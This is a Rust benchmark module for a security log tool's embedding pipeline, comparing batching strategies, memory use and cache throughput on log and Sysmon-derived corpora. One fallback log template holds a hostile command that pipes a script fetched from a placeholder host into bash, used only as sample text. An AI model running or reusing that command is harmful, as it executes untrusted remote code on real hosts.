//! `vigil bench embed`: sentence-embedding throughput on this machine. The
//! batch strategy (sort by length, small sub-batches, restore order) against
//! a naive 256-texts-per-call baseline on the same lines in the same run, peak
//! memory of each, and the effective rate with the normalised-text cache on a
//! repetitive stream.

use std::path::Path;
use std::time::Instant;

use anyhow::Context;
use chrono::{Duration, Utc};
use vigil_embed::{text_for, CachedEmbedder, EmbedConfig, Embedder, Selection};
use vigil_ingest::generate::{Generator, GeneratorConfig};

/// `vigil bench embed` options.
#[derive(Debug, clap::Args)]
pub(super) struct EmbedArgs {
    /// Realistic lines embedded by both strategies.
    #[arg(long, default_value_t = 1_000)]
    lines: usize,
    /// Lines per `embed` call (the naive baseline runs each as one model call).
    #[arg(long, default_value_t = 256)]
    batch: usize,
    /// Texts per model call in the sorted strategy.
    #[arg(long, default_value_t = 16)]
    sub_batch: usize,
    /// ONNX Runtime threads (default: every core).
    #[arg(long)]
    threads: Option<usize>,
    /// Lines in the repetitive stream for the cache.
    #[arg(long, default_value_t = 100_000)]
    stream: usize,
    /// Cache capacity (vectors).
    #[arg(long, default_value_t = 10_000)]
    cache: usize,
}

/// Peak resident set size (VmHWM) in MiB, when /proc says.
fn peak_rss_mib() -> Option<f64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kb: f64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb / 1024.0)
}

/// Resets VmHWM to the current RSS (Linux `clear_refs` 5), so each strategy's peak is its own.
fn reset_peak_rss() -> bool {
    std::fs::write("/proc/self/clear_refs", "5").is_ok()
}

fn fmt_mib(v: Option<f64>) -> String {
    v.map_or_else(|| "n/a".to_string(), |m| format!("{m:.0} MiB"))
}

/// A small deterministic PRNG (xorshift64*), so runs are comparable.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// Realistic lines: loghub's OpenSSH and Linux syslog samples when the shared
/// data is there, and the texts of generated events that the default
/// selection would embed.
fn corpus(n: usize) -> (Vec<String>, String) {
    let mut lines = Vec::with_capacity(n);
    let mut from = Vec::new();
    if let Some(shared) = vigil_ingest::demo::find_shared_data(None) {
        for (file, share) in [("loghub/OpenSSH/OpenSSH_2k.log", 0.35), ("loghub/Linux/Linux_2k.log", 0.25)] {
            let want = (n as f64 * share) as usize;
            if let Ok(text) = std::fs::read_to_string(shared.join(file)) {
                let before = lines.len();
                let all: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
                let step = (all.len() / want.max(1)).max(1);
                lines.extend(all.iter().step_by(step).take(want).map(|l| l.to_string()));
                from.push(format!(
                    "{} {}",
                    lines.len() - before,
                    Path::new(file).file_name().map_or(file.into(), |f| f.to_string_lossy())
                ));
            }
        }
    }
    let before = lines.len();
    let sel = Selection::default();
    let gen =
        Generator::new(GeneratorConfig { seed: 7, ..GeneratorConfig::recent(50_000, Duration::hours(6), Utc::now()) });
    lines.extend(gen.filter(|e| sel.selects(e)).filter_map(|e| text_for(&e)).take(n.saturating_sub(lines.len())));
    from.push(format!("{} generated events", lines.len() - before));
    (lines, from.join(", "))
}

/// The batch strategy against the naive baseline on `lines`, in this order,
/// with each one's peak memory.
fn compare(
    embedder: &Embedder,
    cfg: &EmbedConfig,
    a: &EmbedArgs,
    name: &str,
    lines: &[String],
    from: &str,
) -> anyhow::Result<()> {
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let lens: Vec<usize> = {
        let mut l: Vec<usize> = lines.iter().map(String::len).collect();
        l.sort_unstable();
        l
    };
    let avg = lens.iter().sum::<usize>() as f64 / lens.len().max(1) as f64;
    println!(
        "  {name}: {} lines ({from}); bytes: mean {avg:.0}, median {}, p95 {}, max {}",
        lines.len(),
        lens.get(lens.len() / 2).copied().unwrap_or(0),
        lens.get(lens.len() * 95 / 100).copied().unwrap_or(0),
        lens.last().copied().unwrap_or(0)
    );
    embedder.embed(&refs[..refs.len().min(32)])?; // warm-up: first-run allocations and kernels

    let _ = reset_peak_rss();
    let t = Instant::now();
    let mut sorted = Vec::with_capacity(refs.len());
    for chunk in refs.chunks(a.batch.max(1)) {
        sorted.extend(embedder.embed(chunk)?);
    }
    let sorted_s = t.elapsed().as_secs_f64();
    let sorted_rss = peak_rss_mib();
    let sorted_rate = refs.len() as f64 / sorted_s;

    let reset = reset_peak_rss();
    let t = Instant::now();
    let mut naive = Vec::with_capacity(refs.len());
    for chunk in refs.chunks(a.batch.max(1)) {
        naive.extend(embedder.embed_naive(chunk)?);
    }
    let naive_s = t.elapsed().as_secs_f64();
    let naive_rss = if reset { peak_rss_mib() } else { None };
    let naive_rate = refs.len() as f64 / naive_s;
    let min_cos = sorted
        .iter()
        .zip(&naive)
        .map(|(x, y)| x.iter().zip(y).map(|(p, q)| p * q).sum::<f32>())
        .fold(f32::INFINITY, f32::min);

    println!(
        "    sorted, sub-batches of {:>3}  {:>6.1} lines/s  ({} lines in {sorted_s:.2}s, peak RSS {})",
        cfg.sub_batch,
        sorted_rate,
        refs.len(),
        fmt_mib(sorted_rss)
    );
    println!(
        "    naive, {:>3} per call         {:>6.1} lines/s  ({} lines in {naive_s:.2}s, peak RSS {}) (baseline)",
        a.batch,
        naive_rate,
        refs.len(),
        fmt_mib(naive_rss)
    );
    println!("    sorted / naive = {:.2}x; same vectors (min cosine {min_cos:.5})", sorted_rate / naive_rate);
    Ok(())
}

/// What the default selection embeds from a security stream, in arrival
/// order (sources interleaved): real Sysmon command lines, script blocks,
/// file and registry targets from SigmaHQ's regression events, real OpenSSH
/// log lines from loghub, and generated alert, logon and process texts.
fn security_corpus(n: usize) -> (Vec<String>, String) {
    let mut sysmon = Vec::new();
    let mut ssh = Vec::new();
    if let Some(shared) = vigil_ingest::demo::find_shared_data(None) {
        let mut stack = vec![shared.join("sigma/regression/regression_data")];
        while let Some(dir) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else { continue };
            let mut paths: Vec<_> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
            paths.sort();
            for p in paths {
                if p.is_dir() {
                    stack.push(p);
                } else if p.extension().is_some_and(|x| x == "json") {
                    let Ok(text) = std::fs::read_to_string(&p) else { continue };
                    let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) else { continue };
                    let data = &v["Event"]["EventData"];
                    for key in ["CommandLine", "ScriptBlockText", "TargetFilename", "TargetObject", "QueryName"] {
                        if let Some(s) = data[key].as_str().filter(|s| !s.trim().is_empty()) {
                            sysmon.push(s.to_string());
                        }
                    }
                }
            }
        }
        if let Ok(text) = std::fs::read_to_string(shared.join("loghub/OpenSSH/OpenSSH_2k.log")) {
            ssh.extend(text.lines().filter(|l| !l.trim().is_empty()).step_by(4).map(str::to_string));
        }
    }
    let sel = Selection::default();
    let gen =
        Generator::new(GeneratorConfig { seed: 11, ..GeneratorConfig::recent(50_000, Duration::hours(6), Utc::now()) });
    let mut generated: Vec<String> = gen.filter(|e| sel.selects(e)).filter_map(|e| text_for(&e)).take(n).collect();
    // Interleave as a stream would: a Sysmon value, an SSH line, generated texts.
    let mut rng = Rng(0x5eed_1234_abcd_0001);
    let mut out = Vec::with_capacity(n);
    let (mut si, mut hi) = (0, 0);
    while out.len() < n {
        match rng.below(4) {
            0 if !sysmon.is_empty() => {
                out.push(sysmon[si % sysmon.len()].clone());
                si += 1;
            }
            1 if !ssh.is_empty() => {
                out.push(ssh[hi % ssh.len()].clone());
                hi += 1;
            }
            _ => match generated.pop() {
                Some(t) => out.push(t),
                None if !sysmon.is_empty() || !ssh.is_empty() => continue,
                None => break,
            },
        }
    }
    let from = format!(
        "{si} Sysmon values from SigmaHQ regression events, {hi} loghub OpenSSH lines, {} generated texts",
        out.len() - si - hi
    );
    (out, from)
}

/// Templates for the repetitive stream: loghub's event templates (`<*>` is a
/// variable) when available, else a few of our own.
fn templates() -> Vec<String> {
    let mut out = Vec::new();
    if let Some(shared) = vigil_ingest::demo::find_shared_data(None) {
        for file in ["loghub/OpenSSH/OpenSSH_2k.log_templates.csv", "loghub/Linux/Linux_2k.log_templates.csv"] {
            if let Ok(text) = std::fs::read_to_string(shared.join(file)) {
                // EventId,EventTemplate (the template may hold commas; keep all after the first).
                out.extend(
                    text.lines()
                        .skip(1)
                        .filter_map(|l| l.split_once(','))
                        .map(|(_, t)| t.trim_matches('"').to_string()),
                );
            }
        }
    }
    if out.is_empty() {
        out = [
            "sshd[<*>]: Failed password for root from <*> port <*> ssh2",
            "sshd[<*>]: Accepted publickey for deploy from <*> port <*> ssh2",
            "kernel: Out of memory: Killed process <*> (python3)",
            "GET /api/items/<*> HTTP/1.1 200 <*>ms",
            "process started by www-data: curl -s http://<*>/x.sh | bash",
        ]
        .map(String::from)
        .to_vec();
    }
    out
}

/// One line from template number `t`: IPv4 addresses, hex ids or numbers in
/// the gaps (each gap of a template always gets the same kind of value; a gap
/// glued to a word, like `v<*>` or `<*>ms`, always gets a number).
fn fill(t: usize, template: &str, rng: &mut Rng) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let parts: Vec<&str> = template.split("<*>").collect();
    out.push_str(parts[0]);
    for (gap, part) in parts.iter().enumerate().skip(1) {
        let glued =
            parts[gap - 1].ends_with(|c: char| c.is_alphanumeric()) || part.starts_with(|c: char| c.is_alphanumeric());
        match if glued { 0 } else { (t + gap) % 3 } {
            0 => out.push_str(&(1_000 + rng.below(99_000)).to_string()),
            1 => out.push_str(&format!("10.{}.{}.{}", rng.below(256), rng.below(256), rng.below(256))),
            _ => out.push_str(&format!("{:012x}", rng.next() >> 16)),
        }
        out.push_str(part);
    }
    out
}

pub(super) fn run(a: EmbedArgs) -> anyhow::Result<()> {
    let mut cfg = EmbedConfig::default();
    if let Some(t) = a.threads {
        cfg.threads = t;
    }
    cfg.sub_batch = a.sub_batch;
    let t = Instant::now();
    let embedder = Embedder::load(&cfg).context("loading the embedding model")?;
    println!(
        "vigil bench embed — {} ({} threads, loaded in {:.1}s)",
        embedder.model_id(),
        cfg.threads,
        t.elapsed().as_secs_f64()
    );
    let (lines, from) = corpus(a.lines);
    compare(&embedder, &cfg, &a, "log lines", &lines, &from)?;
    let (lines, from) = security_corpus(a.lines);
    compare(&embedder, &cfg, &a, "security events", &lines, &from)?;

    // The cache on a repetitive stream.
    let templates = templates();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let stream: Vec<String> = (0..a.stream)
        .map(|_| {
            let t = rng.below(templates.len() as u64) as usize;
            fill(t, &templates[t], &mut rng)
        })
        .collect();
    let cached = CachedEmbedder::new(embedder, a.cache);
    let t = Instant::now();
    for chunk in stream.chunks(a.batch.max(1)) {
        let refs: Vec<&str> = chunk.iter().map(String::as_str).collect();
        cached.embed(&refs)?;
    }
    let cache_s = t.elapsed().as_secs_f64();
    let stats = cached.stats();
    println!(
        "  cached stream  {:>9.0} lines/s  ({} lines from {} templates in {cache_s:.2}s; {} embedded, {} hits, {} cached)",
        stream.len() as f64 / cache_s,
        stream.len(),
        templates.len(),
        stats.misses,
        stats.hits,
        stats.entries
    );
    Ok(())
}
